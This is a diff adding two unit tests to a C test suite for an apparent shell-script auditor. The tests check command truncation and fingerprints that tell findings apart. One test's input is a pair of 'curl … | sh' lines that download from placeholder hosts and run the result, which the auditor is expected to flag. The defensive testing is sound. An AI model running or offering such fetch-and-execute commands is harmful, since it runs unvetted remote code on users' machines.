@@ -115,6 +115,42 @@ static void a_fingerprint_follows_the_command_and_not_its_line(void **state)
 	assert_false(str_eq(first, find(c.audit, "A1")->fingerprint));
 }
 
+static void a_very_long_command_is_cut_and_its_fingerprint_is_not(void **state)
+{
+	(void)state;
+	char script[4096] = "evil ";
+	for (size_t i = 5; i < 3005; i++)
+		script[i] = i % 600 == 0 ? ' ' : 'x';
+	scoped(fixture) a = {0};
+	scoped(fixture) b = {0};
+	judge(&a, script, NULL, NULL, &(struct audit_options){0});
+	script[1500] = 'y';
+	judge(&b, script, NULL, NULL, &(struct audit_options){0});
+	assert_true(find(a.audit, "A1")->command.n < 2100);
+	assert_true(str_has_suffix(find(a.audit, "A1")->command, STR("…")));
+	assert_false(str_eq(find(a.audit, "A1")->fingerprint, find(b.audit, "A1")->fingerprint));
+}
+
+static void a_fingerprint_tells_downloads_apart(void **state)
+{
+	(void)state;
+	struct policy_options o = {0};
+	o.files = policy_builtin(&o.file_count);
+	struct error err = {0};
+	scoped_ptr(policy) p = NULL;
+	scoped_ptr(audit) a = NULL;
+	const struct audit_options options = {0};
+	struct str script =
+		STR("curl -s https://a.example/i | sh\ncurl -s https://b.example/i | sh\n");
+	if (policy_load(&p, &o, &err) < 0 ||
+		audit_script(&a, script, STR("s.sh"), p, &options, &err) < 0)
+		fail_msg("%s", err.text);
+	assert_true(a->findings.n >= 2);
+	assert_true(str_is(a->findings.items[0].id, "RX001"));
+	assert_true(str_is(a->findings.items[1].id, "RX001"));
+	assert_false(str_eq(a->findings.items[0].fingerprint, a->findings.items[1].fingerprint));
+}
+
 static void make_waiver(char *out, size_t size, struct str fingerprint)
 {
 	int n = snprintf(out, size,
@@ -217,6 +253,8 @@ int main(void)
 		cmocka_unit_test(findings_come_most_severe_first_then_by_place),
 		cmocka_unit_test(unknown_values_read_as_question_marks_in_messages),
 		cmocka_unit_test(a_fingerprint_follows_the_command_and_not_its_line),
+		cmocka_unit_test(a_fingerprint_tells_downloads_apart),
+		cmocka_unit_test(a_very_long_command_is_cut_and_its_fingerprint_is_not),
 		cmocka_unit_test(a_waiver_excuses_until_the_end_of_its_day),
 		cmocka_unit_test(a_waiver_excuses_one_command_and_not_its_neighbours),
 		cmocka_unit_test(a_waiver_that_excuses_nothing_is_a_finding),
